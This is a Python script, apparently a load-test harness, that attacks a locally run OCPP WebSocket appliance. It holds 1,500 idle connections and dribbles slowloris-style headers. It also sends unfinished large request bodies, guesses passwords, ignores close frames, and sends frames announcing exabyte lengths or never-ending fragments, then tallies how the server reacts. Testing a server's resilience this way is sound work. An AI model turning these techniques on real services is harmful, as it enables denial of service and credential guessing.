"""A machine that wishes the appliance ill: attacker.py PORT ADDRESS floods from ADDRESS until its stdin ends,
then prints how its tries ended as one line of JSON."""

import asyncio
import base64
import collections
import itertools
import json
import os
import resource
import struct
import sys

HELD = 1_500  # silent connections at a time: two of us want more than there is room for
EXABYTES = bytes([0x81, 0xFF]) + struct.pack(">Q", 1 << 62 - 1) + b"mask"
MASKED_FRAGMENT = bytes([0x01, 0xFE, 0x04, 0x00]) + b"mask" + b"x" * 1024
MORE_OF_IT = b"\x00" + MASKED_FRAGMENT[1:]


class Attacker:
    def __init__(self, port, address):
        self.port, self.address = port, address
        self.ends = collections.Counter()
        self.numbers = itertools.count(1)

    async def dial(self):
        return await asyncio.open_connection("127.0.0.1", self.port, local_addr=(self.address, 0))

    async def handshake(self, identity, password=None, protocol="ocpp1.6"):
        """(reader, writer, status) of a request for a WebSocket."""
        reader, writer = await self.dial()
        lines = [f"GET /ocpp/{identity} HTTP/1.1", "Host: x", "Upgrade: websocket", "Connection: Upgrade",
                 "Sec-WebSocket-Key: eA==", "Sec-WebSocket-Version: 13", f"Sec-WebSocket-Protocol: {protocol}"]
        if password:
            lines.append("Authorization: Basic " + base64.b64encode(f"{identity}:{password}".encode()).decode())
        writer.write("\r\n".join([*lines, "", ""]).encode())
        head = await reader.readuntil(b"\r\n\r\n")
        return reader, writer, int(head.split(b" ", 2)[1])

    # Ways to be a nuisance; each ends by saying how it ended.

    async def say_nothing(self):
        reader, writer = await self.dial()
        end = await reader.read()
        writer.close()
        return "hung up" if not end else "503"

    async def dribble(self):
        reader, writer = await self.dial()
        for byte in itertools.cycle(b"GET / HTTP/1.1\r\nX-Slow: " + b"x" * 4096):
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(0.1)
            if reader.at_eof() or reader._buffer:
                break
        writer.close()
        return "cut off"

    async def hoard(self):
        """Sends a large request but for its last byte."""
        reader, writer = await self.dial()
        size = 1024 * 1024
        writer.write(f"POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode())
        try:
            writer.write(b"x" * (size - 1))
            await writer.drain()
            await reader.read()
        finally:
            writer.close()
            await asyncio.sleep(2)
        return "hung up"

    async def guess(self):
        _, writer, status = await self.handshake("LOCKED", password=f"guess {next(self.numbers)}")
        writer.close()
        return status

    async def pretend(self):
        _, writer, status = await self.handshake(f"NOBODY-{self.address}-{next(self.numbers)}")
        writer.close()
        return status

    async def never_hang_up(self):
        """Is refused politely and does not answer the close frame."""
        reader, writer, status = await self.handshake("OPEN", protocol="ocpp9")
        await reader.read()
        writer.close()
        return status

    async def announce_exabytes(self):
        return await self._inside(EXABYTES, b"")

    async def never_end(self):
        return await self._inside(MASKED_FRAGMENT, MORE_OF_IT * 16)

    async def _inside(self, first, more):
        """As a stranger who was let in to wait; the appliance's close code."""
        reader, writer, status = await self.handshake(f"STRANGER-{self.address}-{next(self.numbers) % 4}")
        if status != 101:
            writer.close()
            return status
        writer.write(first)
        while more and not reader._buffer and not reader.at_eof():
            writer.write(more)
            await writer.drain()
        while (await reader.readexactly(2))[0] != 0x88:
            pass  # a ping, without a payload
        code = await reader.readexactly(2)
        writer.close()
        return struct.unpack(">H", code)[0]

    async def again_and_again(self, way):
        while True:
            try:
                end = await asyncio.wait_for(way(), 30)
            except (OSError, EOFError):
                end = "hung up"
            except asyncio.TimeoutError:
                end = "left alone"
            self.ends[f"{way.__name__} {end}"] += 1
            await asyncio.sleep(0)

    async def flood(self):
        loop = asyncio.get_running_loop()
        ways = [(self.never_hang_up, 20), (self.say_nothing, HELD), (self.dribble, 50), (self.hoard, 40),
                (self.guess, 4), (self.pretend, 4), (self.announce_exabytes, 4), (self.never_end, 4)]
        tasks = [loop.create_task(self.again_and_again(way)) for way, count in ways for _ in range(count)]
        await loop.run_in_executor(None, sys.stdin.read)
        failed = [repr(task.exception()) for task in tasks if task.done()]
        print(json.dumps({"ends": self.ends, "failed": failed}), flush=True)
        os._exit(0)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(Attacker(int(sys.argv[1]), sys.argv[2]).flood())
